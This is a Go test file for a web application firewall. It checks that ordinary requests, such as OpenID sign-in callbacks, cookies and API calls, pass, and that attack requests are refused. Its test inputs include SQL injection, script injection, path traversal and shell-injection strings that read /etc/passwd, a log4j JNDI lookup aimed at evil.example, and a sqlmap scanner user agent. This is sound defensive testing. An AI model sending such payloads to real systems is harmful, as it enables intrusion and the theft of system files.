package waf_test

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"mainstay/internal/httpd/waf"
)

const chrome = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"

func request(method, target string, header ...string) *http.Request {
	r := httptest.NewRequest(method, target, nil)
	r.Host = "mainstay.example"
	r.Header.Set("User-Agent", chrome)
	r.Header.Set("Accept", "text/html,application/xhtml+xml,*/*;q=0.8")
	r.Header.Set("Cookie", "theme=dark; zone=Europe%2FBerlin")
	for i := 0; i+1 < len(header); i += 2 {
		r.Header.Set(header[i], header[i+1])
	}
	return r
}

func TestAttacksAreRefusedAndVisitorsAreNot(t *testing.T) {
	t.Parallel()
	f := waf.New()
	if err := f.Check(); err != nil {
		t.Fatal(err)
	}
	long := strings.Repeat("A1b2C3d4-_", 9)[:86]
	for _, c := range []struct {
		name string
		r    *http.Request
		want bool
	}{
		{"the home page", request("GET", "/"), false},
		{"a way back after signing in", request("GET", "/sign-in?next=%2Fmeetings%2Fmtg_01jq0000000000000000000000"), false},
		{"a setup token", request("GET", "/setup/"+long), false},
		{"an OpenID provider's answer", request("GET", "/sign-in/callback/google?code=4%2F0AX4XfWh-abc&state="+long+"&iss=https%3A%2F%2Faccounts.google.com&scope=email%20profile"), false},
		{"a provider's refusal", request("GET", "/sign-in/callback/microsoft?error=access_denied&error_description=AADSTS65004%3A%20User%20declined%20to%20consent%20to%20access%20the%20app.%20Trace%20ID%3A%205cb4-11%20Timestamp%3A%202026-11-26%2010%3A00%3A00Z&error_uri=https%3A%2F%2Flogin.microsoftonline.com%2Ferror%3Fcode%3D65004&state="+long), false},
		{"Microsoft's answer", request("GET", "/sign-in/callback/microsoft?code=0.AXoAq-1_x.AgABBAIAAABzDkYY0.%2AzDs&client_info=eyJ1aWQiOiIxMjM0IiwidXRpZCI6IjU2NzgifQ&session_state=8b7e0f62-1c1d-4e6b-a0a2-0c9f5d1c2b3a&state="+long), false},
		{"the answer of a provider that is asked by its address", request("GET", "/sign-in/callback/google?code=x%27%20or%201%3D1--&state="+long+"&iss=http%3A%2F%2F127.0.0.1%3A8080"), false},
		{"an attack beside a provider's answer", request("GET", "/sign-in/callback/google?state="+long+"&x=%3Cscript%3Ealert(1)%3C%2Fscript%3E"), true},
		{"a neighbour's cookies", request("GET", "/sign-in", "Cookie", `OptanonConsent=isGpcEnabled=0&datestamp=Thu+Nov+26+2026+15%3A00%3A00+GMT%2B0100+(CET)&groups=C0001%3A1; _hp2_id.1={"userId":"1","sql":"select * from x"}; x=<script>alert(1)</script>`), false},
		{"an API request whose key is void", request("DELETE", "/api/v1/meetings/mtg_01jq0000000000000000000000", "Authorization", "Bearer mst_"+long), false},
		{"a piece of an upload", request("PATCH", "/uploads/upl_01jq", "Content-Type", "application/offset+octet-stream"), false},
		{"a report of a browser", request("POST", "/csp-report", "Content-Type", "application/csp-report", "Content-Length", "20"), false},
		{"a server asked by its address", func() *http.Request { r := request("GET", "/sign-in"); r.Host = "127.0.0.1:7070"; return r }(), false},
		{"curl", request("GET", "/healthz", "User-Agent", "curl/8.5.0"), false},
		{"SQL in a parameter", request("GET", "/sign-in?next=1%27%20or%201%3D1--%20"), true},
		{"a script in a parameter", request("GET", "/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"), true},
		{"a way up the folders", request("GET", "/static/..%2f..%2f..%2fetc/passwd"), true},
		{"a shell command", request("GET", "/?x=%3Bcat%20%2Fetc%2Fpasswd"), true},
		{"a lookup by log4j in a header", request("GET", "/", "User-Agent", "${jndi:ldap://evil.example/a}"), true},
		{"a scanner by its name", request("GET", "/", "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"), true},
	} {
		rule, refused := f.Refuses(c.r, "192.0.2.7")
		if refused != c.want {
			t.Errorf("%s: refused %v by rule %d", c.name, refused, rule)
		}
		if refused && (rule < 911000 || rule >= 949000) {
			t.Errorf("%s: rule %d does not say what was found", c.name, rule)
		}
	}
}

// BenchmarkRefuses is what one request without a session pays.
func BenchmarkRefuses(b *testing.B) {
	f, r := waf.New(), request("GET", "/sign-in?next=%2Fmeetings%2Fmtg_01jq0000000000000000000000")
	if err := f.Check(); err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for b.Loop() {
		f.Refuses(r, "192.0.2.7")
	}
}
